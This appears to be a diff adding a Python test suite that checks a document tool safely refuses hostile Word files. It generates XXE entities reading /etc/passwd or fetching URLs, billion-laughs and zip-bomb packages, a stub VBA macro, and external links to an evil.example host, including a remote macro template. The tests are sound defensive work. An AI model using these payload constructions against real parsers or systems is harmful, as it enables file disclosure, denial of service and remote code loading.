@@ -1,0 +1,502 @@
+"""DOCX files from strangers: a file returned for review (`drafter review`) and a reference
+document (`drafter build --reference-doc`). Zip bombs, entity expansion and external entities are
+refused before any parsing, with one line and nothing written; nothing is ever fetched. Macros and
+external targets of a reference document never reach drafter's output.
+
+Every hostile file starts as a document drafter wrote, with parts patched by zipfile."""
+
+from __future__ import annotations
+
+import io
+import re
+import socket
+import struct
+import zipfile
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import docx
+import pytest
+from support import draft_text
+
+from drafter.word.safety import MAX_PARTS, MAX_UNPACKED_BYTES
+
+ONE_LINE = re.compile(r"^(?P<path>.+?):(?P<line>\d+): (?P<what>.+?) — (?P<fix>.+)$")
+OLD = b"an earlier build, which a refused build leaves alone\n"
+W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
+OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+DRAFT_URL = "https://www.hrw.org/news/2021/11/24/mass-surveillance"  # the lib fixture's source
+
+
+def refused(result: object, path: Path, says: str = "") -> None:
+    code, out, err = result.code, result.out, result.err  # type: ignore[attr-defined]
+    assert "Traceback" not in out + err and "internal error" not in err, err
+    assert code == 2, (code, out, err)
+    lines = err.splitlines()
+    assert len(lines) == 1, err
+    match = ONE_LINE.match(lines[0])
+    assert match and Path(match["path"]) == path, lines[0]
+    assert says.lower() in match["what"].lower(), lines[0]
+
+
+def patched(data: bytes, changes: dict[str, bytes | str], drop: tuple[str, ...] = ()) -> bytes:
+    """The package with parts replaced or added (`changes`) and removed (`drop`)."""
+    changes = dict(changes)
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:  # fmt: skip
+        for name in src.namelist():
+            if name not in drop:
+                dst.writestr(name, changes.pop(name) if name in changes else src.read(name))
+        for name, content in changes.items():
+            dst.writestr(name, content)
+    return out.getvalue()
+
+
+def part(data: bytes, name: str) -> str:
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return archive.read(name).decode("utf-8")
+
+
+@pytest.fixture
+def built(lib, run_cli, tmp_path: Path) -> tuple[Path, bytes]:
+    """The lib fixture's draft and the DOCX drafter builds from it."""
+    draft = lib.draft(draft_text())
+    out = tmp_path / "built.docx"
+    assert run_cli("build", draft, "-o", out, "--library", lib.root).code == 0
+    return draft, out.read_bytes()
+
+
+class Listener:
+    """A local TCP port that records whether anything connected (a fetch would)."""
+
+    def __init__(self) -> None:
+        self.socket = socket.socket()
+        self.socket.bind(("127.0.0.1", 0))
+        self.socket.listen(8)
+        self.socket.setblocking(False)
+        self.url = f"http://127.0.0.1:{self.socket.getsockname()[1]}/x"
+
+    def contacted(self) -> bool:
+        try:
+            connection, _ = self.socket.accept()
+        except BlockingIOError:
+            return False
+        connection.close()
+        return True
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    server = Listener()
+    yield server
+    server.socket.close()
+
+
+# --- hostile XML -------------------------------------------------------------
+
+
+def _laughs(root: str) -> str:
+    entities = '<!ENTITY lol0 "lollollollollollollollollollol">' + "".join(
+        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
+    )
+    return f"<!DOCTYPE {root} [{entities}]>"
+
+
+def _with_doctype(xml: str, doctype: str, reference: str) -> str:
+    """`xml` with `doctype` after its declaration and `reference` in its first text."""
+    head, rest = xml.split("?>", 1)
+    if "<w:t>" in rest:
+        rest = rest.replace("<w:t>", f"<w:t>{reference}", 1)
+    elif "<w:t " in rest:
+        rest = re.sub(r"(<w:t [^>]*>)", lambda m: m.group(1) + reference, rest, count=1)
+    return head + "?>" + doctype + rest
+
+
+COMMENTS_XML = (
+    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:comments xmlns:w="{W}">'
+    '<w:comment w:id="0" w:author="Stranger"><w:p><w:r><w:t>A comment</w:t></w:r></w:p>'
+    "</w:comment></w:comments>"
+)
+
+
+def _with_comments(data: bytes, comments: str) -> bytes:
+    rels = part(data, "word/_rels/document.xml.rels").replace(
+        "</Relationships>",
+        f'<Relationship Id="rIdC1" Type="{OFFICE_RELS}/comments" Target="comments.xml"/>'
+        "</Relationships>",
+    )
+    types = part(data, "[Content_Types].xml").replace(
+        "</Types>",
+        '<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-'
+        'officedocument.wordprocessingml.comments+xml"/></Types>',
+    )
+    return patched(
+        data,
+        {
+            "word/comments.xml": comments,
+            "word/_rels/document.xml.rels": rels,
+            "[Content_Types].xml": types,
+        },
+    )
+
+
+def hostile_xml(data: bytes, where: str, attack: str, url: str) -> bytes:
+    """A copy of `data` whose `where` part (document, footnotes, comments) carries `attack`."""
+    root = {"document": "w:document", "footnotes": "w:footnotes", "comments": "w:comments"}[where]
+    doctype, reference = {
+        "billion-laughs": (_laughs(root), "&lol9;"),
+        "external-file": (f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
+        "external-url": (f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{url}">]>', "&x;"),
+        "external-dtd": (f'<!DOCTYPE {root} SYSTEM "{url}">', ""),
+        "parameter-entity": (
+            f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "{url}"> %p;]>',
+            "",
+        ),
+        "quadratic-blowup": (f'<!DOCTYPE {root} [<!ENTITY a "{"a" * 50000}">]>', "&a;" * 5000),
+    }[attack]
+    if where == "comments":
+        return _with_comments(data, _with_doctype(COMMENTS_XML, doctype, reference))
+    name = f"word/{where}.xml"
+    return patched(data, {name: _with_doctype(part(data, name), doctype, reference)})
+
+
+ATTACKS = ["billion-laughs", "external-file", "external-url", "external-dtd", "parameter-entity",
+           "quadratic-blowup"]  # fmt: skip
+WHERE = ["document", "footnotes", "comments"]
+
+
+@pytest.mark.parametrize("where", WHERE)
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_a_returned_file_with_entities_is_refused_and_nothing_fetched(
+    built, run_cli, lib, tmp_path: Path, listener: Listener, attack: str, where: str
+) -> None:
+    draft, data = built
+    returned = tmp_path / "returned.docx"
+    returned.write_bytes(hostile_xml(data, where, attack, listener.url))
+    merged = tmp_path / "merged.docx"
+    before = draft.read_bytes()
+    result = run_cli(
+        "review", "--library", lib.root, draft, returned, "--merge-comments", merged, "--apply"
+    )
+    refused(result, returned, "entities")
+    assert "root:" not in result.out + result.err
+    assert not merged.exists() and draft.read_bytes() == before
+    assert not draft.with_suffix(".reviewed.toml").exists()
+    assert not listener.contacted()
+
+
+@pytest.mark.parametrize("where", WHERE)
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_a_reference_document_with_entities_is_refused_and_nothing_fetched(
+    built, run_cli, lib, tmp_path: Path, listener: Listener, attack: str, where: str
+) -> None:
+    draft, data = built
+    reference = tmp_path / "reference.docx"
+    reference.write_bytes(hostile_xml(data, where, attack, listener.url))
+    out = tmp_path / "out.docx"
+    out.write_bytes(OLD)
+    result = run_cli("build", draft, "-o", out, "--reference-doc", reference, "--library", lib.root)
+    refused(result, reference, "entities")
+    assert out.read_bytes() == OLD
+    assert not listener.contacted()
+
+
+@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
+def test_entities_in_a_utf16_part_are_found_too(
+    built, run_cli, lib, tmp_path: Path, encoding: str
+) -> None:
+    draft, data = built
+    xml = _with_doctype(part(data, "word/document.xml"), _laughs("w:document"), "&lol9;")
+    xml = xml.replace("encoding='UTF-8'", "encoding='UTF-16'").replace(
+        'encoding="UTF-8"', 'encoding="UTF-16"'
+    )
+    bom = "\ufeff".encode(encoding)
+    returned = tmp_path / "returned.docx"
+    returned.write_bytes(patched(data, {"word/document.xml": bom + xml.encode(encoding)}))
+    refused(run_cli("review", "--library", lib.root, draft, returned), returned, "entities")
+
+
+# --- zip bombs ---------------------------------------------------------------
+
+
+def _bomb(data: bytes) -> bytes:
+    """One highly compressible part that inflates past the unpacked limit."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:  # fmt: skip
+        for name in src.namelist():
+            dst.writestr(name, src.read(name))
+        with dst.open("word/media/padding.xml", "w") as member:
+            chunk = b" " * (1 << 20)
+            for _ in range(MAX_UNPACKED_BYTES // len(chunk) + 2):
+                member.write(chunk)
+    return out.getvalue()
+
+
+def _many_parts(data: bytes) -> bytes:
+    return patched(data, {f"word/media/p{i}.xml": b"<x/>" for i in range(MAX_PARTS + 1)})
+
+
+def _declared_sizes(data: bytes, size: int) -> bytes:
+    """Every central directory entry claims `size` unpacked bytes."""
+    raw = bytearray(data)
+    start = 0
+    while (start := raw.find(b"PK\x01\x02", start)) != -1:
+        struct.pack_into("<I", raw, start + 24, size)
+        start += 4
+    return bytes(raw)
+
+
+def _lying_small_size(data: bytes) -> bytes:
+    """document.xml claims 10 bytes in both headers but inflates to far more."""
+    raw = bytearray(data)
+    name = b"word/document.xml"
+    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
+        start = 0
+        while (start := raw.find(signature, start)) != -1:
+            name_at = start + (30 if signature == b"PK\x03\x04" else 46)
+            if raw[name_at : name_at + len(name)] == name:
+                struct.pack_into("<I", raw, start + offset, 10)
+            start += 4
+    return bytes(raw)
+
+
+BOMBS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
+    "inflates-past-the-limit": (_bomb, "too large"),
+    "too-many-parts": (_many_parts, "too many"),
+    "huge-declared-sizes": (lambda d: _declared_sizes(d, 0xFFFFFFFF), "too large"),
+    "lying-small-size": (_lying_small_size, "not a Word document"),
+    "not-a-zip": (lambda d: d[len(d) // 2 :], "not a Word document"),
+    "truncated": (lambda d: d[: len(d) // 2], "not a Word document"),
+}
+
+
+@pytest.fixture(scope="module")
+def bomb_cache() -> dict[str, bytes]:
+    return {}
+
+
+@pytest.mark.parametrize("kind", list(BOMBS))
+@pytest.mark.parametrize("role", ["returned", "reference"])
+def test_a_zip_bomb_is_refused(built, run_cli, lib, tmp_path: Path, kind: str, role: str) -> None:
+    draft, data = built
+    make, says = BOMBS[kind]
+    hostile = tmp_path / "hostile.docx"
+    hostile.write_bytes(make(data))
+    out = tmp_path / "out.docx"
+    out.write_bytes(OLD)
+    if role == "returned":
+        result = run_cli("review", "--library", lib.root, draft, hostile, "--merge-comments", out)
+    else:
+        result = run_cli("build", draft, "-o", out, "--reference-doc", hostile, "--library", lib.root)  # fmt: skip
+    says = "package unpacks to too many or too large parts" if says.startswith("too") else says
+    refused(result, hostile, says)
+    assert out.read_bytes() == OLD
+
+
+# --- macros and external targets in a reference document --------------------
+
+VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
+UI = "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"
+NS = (
+    f'xmlns:w="{W}" xmlns:r="{R}" '
+    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
+    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
+    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
+    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
+)
+HEADER_EXTRAS = (
+    '<w:hyperlink r:id="rIdEvilLink"><w:r><w:t>Visit us</w:t></w:r></w:hyperlink>'
+    '<w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="90" name="p"/>'
+    '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
+    '<pic:pic><pic:nvPicPr><pic:cNvPr id="90" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
+    '<pic:blipFill><a:blip r:link="rIdEvilImage"/></pic:blipFill><pic:spPr/></pic:pic>'
+    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
+    '<w:r><w:object><v:shape id="ole1" style="width:1pt;height:1pt"><v:imagedata r:id="rIdEvilVml"/>'
+    '</v:shape><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="ole1" r:id="rIdEvilOle">'
+    "<o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject></w:object></w:r>"
+)
+EVIL = "evil.example"
+
+
+def macro_reference(data: bytes) -> bytes:
+    """Drafter's document with a letterhead, then macros, an add-in ribbon, an attached template,
+    mail merge, and external links, pictures and an OLE object patched in."""
+    document = docx.Document(io.BytesIO(data))
+    header = document.sections[0].header
+    header.is_linked_to_previous = False
+    header.paragraphs[0].text = "LETTERHEAD of the coalition"
+    buffer = io.BytesIO()
+    document.save(buffer)
+    data = buffer.getvalue()
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        header_name = next(n for n in archive.namelist() if re.match(r"word/header\d*\.xml$", n))
+    header_xml = part(data, header_name)
+    header_xml = re.sub(r"<w:hdr [^>]*>", f"<w:hdr {NS}>", header_xml, count=1)
+    header_xml = header_xml.replace("</w:p>", HEADER_EXTRAS + "</w:p>", 1)
+    header_rels_name = header_name.replace("word/", "word/_rels/") + ".rels"
+    header_rels = (
+        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{RELS}">'
+        f'<Relationship Id="rIdEvilLink" Type="{OFFICE_RELS}/hyperlink" Target="https://{EVIL}/link" TargetMode="External"/>'
+        f'<Relationship Id="rIdEvilImage" Type="{OFFICE_RELS}/image" Target="https://{EVIL}/pixel.png" TargetMode="External"/>'
+        f'<Relationship Id="rIdEvilVml" Type="{OFFICE_RELS}/image" Target="file:///etc/passwd" TargetMode="External"/>'
+        f'<Relationship Id="rIdEvilOle" Type="{OFFICE_RELS}/oleObject" Target="file:///C:/{EVIL}/book.xlsx" TargetMode="External"/>'
+        "</Relationships>"
+    )
+    settings = part(data, "word/settings.xml")
+    settings = re.sub(r"<w:settings ([^>]*)>", rf'<w:settings \1 xmlns:r="{R}">', settings, count=1)
+    settings = settings.replace(
+        "</w:settings>",
+        '<w:attachedTemplate r:id="rIdTemplate"/><w:mailMerge><w:mainDocumentType '
+        'w:val="formLetters"/><w:dataSource r:id="rIdMerge"/></w:mailMerge></w:settings>',
+    )
+    settings_rels = (
+        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{RELS}">'
+        f'<Relationship Id="rIdTemplate" Type="{OFFICE_RELS}/attachedTemplate" Target="https://{EVIL}/macros.dotm" TargetMode="External"/>'
+        f'<Relationship Id="rIdMerge" Type="{OFFICE_RELS}/mailMergeSource" Target="file:///{EVIL}/data.xlsx" TargetMode="External"/>'
+        "</Relationships>"
+    )
+    rels = part(data, "word/_rels/document.xml.rels").replace(
+        "</Relationships>",
+        f'<Relationship Id="rIdVba" Type="{VBA}" Target="vbaProject.bin"/>'
+        f'<Relationship Id="rIdSub" Type="{OFFICE_RELS}/subDocument" Target="https://{EVIL}/sub.docx" TargetMode="External"/>'
+        f'<Relationship Id="rIdLeft" Type="{OFFICE_RELS}/hyperlink" Target="https://{EVIL}/left" TargetMode="External"/>'
+        "</Relationships>",
+    )
+    package_rels = part(data, "_rels/.rels").replace(
+        "</Relationships>",
+        f'<Relationship Id="rIdUi" Type="{UI}" Target="customUI/customUI.xml"/>'
+        f'<Relationship Id="rIdOut" Type="{OFFICE_RELS}/hyperlink" Target="https://{EVIL}/pkg" TargetMode="External"/>'
+        "</Relationships>",
+    )
+    types = part(data, "[Content_Types].xml").replace(
+        "</Types>",
+        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
+    )
+    custom_ui = (
+        '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Evil">'
+        "</customUI>"
+    )
+    return patched(
+        data,
+        {
+            header_name: header_xml,
+            header_rels_name: header_rels,
+            "word/settings.xml": settings,
+            "word/_rels/settings.xml.rels": settings_rels,
+            "word/_rels/document.xml.rels": rels,
+            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 VBA macros: Sub AutoOpen() Shell(...)",
+            "_rels/.rels": package_rels,
+            "customUI/customUI.xml": custom_ui,
+            "[Content_Types].xml": types,
+        },
+    )
+
+
+def test_macros_and_external_targets_of_a_reference_never_reach_the_output(
+    built, run_cli, lib, tmp_path: Path
+) -> None:
+    draft, data = built
+    reference = tmp_path / "reference.docx"
+    reference.write_bytes(macro_reference(data))
+    out = tmp_path / "out.docx"
+    result = run_cli("build", draft, "-o", out, "--reference-doc", reference, "--library", lib.root)
+    assert result.code in (0, 1), result.err
+    output = out.read_bytes()
+    with zipfile.ZipFile(io.BytesIO(output)) as archive:
+        names = archive.namelist()
+        texts = {n: archive.read(n).decode("utf-8", "replace") for n in names}
+    assert not [n for n in names if "vba" in n.lower() or "customui" in n.lower()], names
+    types = texts["[Content_Types].xml"]
+    assert "macroEnabled" not in types and "vbaProject" not in types
+    assert (
+        'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
+        'officedocument.wordprocessingml.document.main+xml"' in types
+    )
+    external = set()
+    for name, text in texts.items():
+        assert EVIL not in text and "/etc/passwd" not in text, name
+        if name.endswith(".rels"):
+            for rel in re.findall(r"<Relationship [^>]*>", text):
+                assert "attachedTemplate" not in rel and "oleObject" not in rel, rel
+                assert "subDocument" not in rel and "mailMerge" not in rel and VBA not in rel
+                if 'TargetMode="External"' in rel:
+                    external.add(re.search(r'Target="([^"]+)"', rel).group(1))  # type: ignore[union-attr]
+    assert external == {DRAFT_URL}  # drafter's own link, from the draft's source
+    header = next(t for n, t in texts.items() if re.match(r"word/header\d*\.xml$", n))
+    assert "LETTERHEAD of the coalition" in header and "Visit us" in header  # link text kept
+    assert "w:object" not in header and "r:link" not in header and "w:hyperlink" not in header
+    settings = texts["word/settings.xml"]
+    assert "attachedTemplate" not in settings and "mailMerge" not in settings
+    # every relationship id used in a part is defined in its rels, so Word opens it unrepaired
+    for name, text in texts.items():
+        if name.endswith(".xml") and name.startswith("word/"):
+            rels_name = name.replace("word/", "word/_rels/", 1) + ".rels"
+            defined = set(re.findall(r'Id="([^"]+)"', texts.get(rels_name, "")))
+            used = set(re.findall(r'\br:(?:id|link|embed)="([^"]+)"', text))
+            assert used <= defined, (name, used - defined)
+    reread = docx.Document(io.BytesIO(output))
+    assert reread.sections[0].header.paragraphs[0].text.startswith("LETTERHEAD")
+
+
+def test_the_reference_document_itself_is_left_unchanged(
+    built, run_cli, lib, tmp_path: Path
+) -> None:
+    draft, data = built
+    reference = tmp_path / "reference.docx"
+    reference.write_bytes(macro_reference(data))
+    before = reference.read_bytes()
+    result = run_cli("build", draft, "-o", tmp_path / "out.docx", "--reference-doc", reference,
+                     "--library", lib.root)  # fmt: skip
+    assert result.code in (0, 1) and reference.read_bytes() == before
+
+
+@pytest.mark.parametrize(
+    ("content_type", "says"),
+    [
+        ("application/vnd.ms-word.document.macroEnabled.main+xml", "macro-enabled"),
+        ("application/vnd.ms-word.template.macroEnabledTemplate.main+xml", "macro-enabled"),
+        (
+            "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
+            "template",
+        ),
+    ],
+)
+@pytest.mark.parametrize("role", ["returned", "reference"])
+def test_a_macro_enabled_file_is_refused(
+    built, run_cli, lib, tmp_path: Path, content_type: str, says: str, role: str
+) -> None:
+    draft, data = built
+    types = re.sub(
+        r'(PartName="/word/document.xml" ContentType=")[^"]+"',
+        rf'\g<1>{content_type}"',
+        part(data, "[Content_Types].xml"),
+    )
+    hostile = tmp_path / "macros.docm"
+    hostile.write_bytes(
+        patched(data, {"[Content_Types].xml": types, "word/vbaProject.bin": b"VBA"})
+    )
+    out = tmp_path / "out.docx"
+    if role == "returned":
+        result = run_cli("review", "--library", lib.root, draft, hostile, "--merge-comments", out)
+    else:
+        result = run_cli("build", draft, "-o", out, "--reference-doc", hostile, "--library", lib.root)  # fmt: skip
+    refused(result, hostile, says)
+    assert not out.exists()
+
+
+def test_a_returned_file_with_macros_and_external_links_is_read_without_following_them(
+    built, run_cli, lib, tmp_path: Path, listener: Listener
+) -> None:
+    """Reading follows nothing: the external targets are only names in the review."""
+    draft, data = built
+    hostile = macro_reference(data)
+    rels = part(hostile, "word/_rels/document.xml.rels").replace(
+        "https://evil.example/left", listener.url
+    )
+    returned = tmp_path / "returned.docx"
+    returned.write_bytes(patched(hostile, {"word/_rels/document.xml.rels": rels}))
+    result = run_cli("review", "--library", lib.root, draft, returned, "--format", "json")
+    assert result.code == 0, result.err
+    assert not listener.contacted()
